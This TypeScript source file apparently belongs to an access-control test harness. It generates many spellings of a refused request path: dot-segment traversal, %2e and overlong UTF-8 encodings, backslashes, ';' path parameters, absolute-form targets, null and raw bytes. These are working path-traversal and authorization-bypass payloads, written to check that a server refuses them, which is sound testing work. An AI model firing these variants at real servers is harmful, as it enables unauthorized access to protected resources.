/** Spellings of a refused path that a careless reader takes for another. */
export interface PathVariant {
  readonly family: string;
  /** The request target, as it is sent: latin-1, so that each character is one byte. */
  readonly target: string;
}

/**
 * @param allowed a path that the caller may ask for (`/accounts/7`).
 * @param denied one that it may not (`/salaries`).
 * @param host as the request's Host says: a target in absolute form must not be refused for naming another.
 */
export function pathVariants(allowed: string, denied: string, host: string): readonly PathVariant[] {
  const folder = allowed.slice(0, allowed.lastIndexOf("/") + 1);
  const up = "../".repeat(folder.split("/").length - 2);
  const name = denied.slice(1);
  const families: Readonly<Record<string, readonly string[]>> = {
    "the path itself": [denied, `${denied}?x=${allowed}`, `${denied}?`, `${denied}?/..${allowed}`],
    "dots that climb out of the allowed path": [
      `${folder}${up}${name}`,
      `${folder}.${"/"}${up}${name}`,
      `${allowed}/../${up}${name}`,
      `${folder}x/../${up}${name}`,
    ],
    "dots written as %2e": climbs(folder, name, up, ["%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e"]),
    "encoded slashes": climbsWith(folder, name, up, ["%2f", "%2F", "%5c", "%5C", "%252f", "%c0%af"]),
    backslashes: [
      `${folder}${up.replaceAll("/", "\\")}${name}`,
      `${folder}..\\${name}`,
      `\\${name}`,
      denied.replace("/", "/\\"),
    ],
    "doubled slashes": [
      `/${denied}`,
      `//${denied}`,
      denied.replace(/(?!^)\//, "//"),
      `${folder}/${up}/${name}`,
    ],
    "path parameters": [
      `${folder}..;/${name}`,
      `${folder}..;x=1/${name}`,
      `${denied};x`,
      `/;${denied}`,
      `${folder};/../${up}${name}`,
    ],
    fragments: [
      `${allowed}#${denied}`,
      `${denied}#${allowed}`,
      `${denied}%23`,
      `${folder}%23/../${up}${name}`,
    ],
    "capitals and final marks": [
      denied.toUpperCase(),
      `${denied}/`,
      `${denied}.`,
      `${denied}%20`,
      `${denied}%09`,
      `${denied}%00`,
    ],
    "letters written as %xx": [encodeAll(denied), encodeOne(denied), encodeOne(denied).toLowerCase()],
    "overlong and odd UTF-8": [
      `${folder}%c0%ae%c0%ae/${name}`,
      `${folder}%e0%80%ae%e0%80%ae/${name}`,
      `${folder}%u002e%u002e/${name}`,
      `${folder}%ef%bc%8e%ef%bc%8e/${name}`,
      `${folder}\u00c0\u00ae\u00c0\u00ae/${name}`,
    ],
    "absolute form": [
      `http://${host}${denied}`,
      `http://${host}${folder}${up}${name}`,
      `https://${host}${denied}`,
      `HTTP://${host}${denied}`,
      `http://x@${host}${denied}`,
      `ftp://${host}${denied}`,
    ],
    "other forms of target": ["*", name, `x${denied}`, `?${denied}`, `${denied} HTTP/1.1`, `@${denied}`],
    "very long": [
      `/${"a/../".repeat(2000)}${name}`,
      `${folder}${"./".repeat(4000)}${up}${name}`,
      `/${"x".repeat(60_000)}/..${denied}`,
    ],
    "every byte as %xx before the dots": bytes().map((byte) => `${folder}%${byte}/../${up}${name}`),
    "every byte as %xx after the path": bytes().map((byte) => `${denied}%${byte}`),
    "every byte as %xx in the slash's place": bytes().map((byte) => `${folder}..%${byte}${name}`),
    "every raw byte after the path": rawBytes().map((byte) => `${denied}${byte}`),
    "every raw byte in the slash's place": rawBytes().map((byte) => `${folder}..${byte}${name}`),
  };
  return Object.entries(families).flatMap(([family, targets]) =>
    [...new Set(targets)].map((target) => ({ family, target })),
  );
}

function climbs(folder: string, name: string, up: string, dots: readonly string[]): string[] {
  return dots.map((two) => `${folder}${up.replaceAll("..", two)}${name}`);
}

function climbsWith(folder: string, name: string, up: string, slashes: readonly string[]): string[] {
  return slashes.flatMap((slash) => [
    `${folder}${up.replaceAll("/", slash)}${name}`,
    `${folder}x${slash}..${slash}..${slash}${name}`,
    `${slash}${name}`,
  ]);
}

function encodeAll(path: string): string {
  return `/${[...path.slice(1)].map((letter) => `%${hex(letter.charCodeAt(0))}`).join("")}`;
}

function encodeOne(path: string): string {
  return `/%${hex(path.charCodeAt(1)).toUpperCase()}${path.slice(2)}`;
}

function bytes(): string[] {
  return Array.from({ length: 256 }, (_, byte) => hex(byte));
}

/** Bytes that end the target or the line are requests of another kind: M7's. */
function rawBytes(): string[] {
  return Array.from({ length: 256 }, (_, byte) => String.fromCharCode(byte)).filter(
    (byte) => byte !== "\r" && byte !== "\n" && byte !== " ",
  );
}

function hex(byte: number): string {
  return byte.toString(16).padStart(2, "0");
}
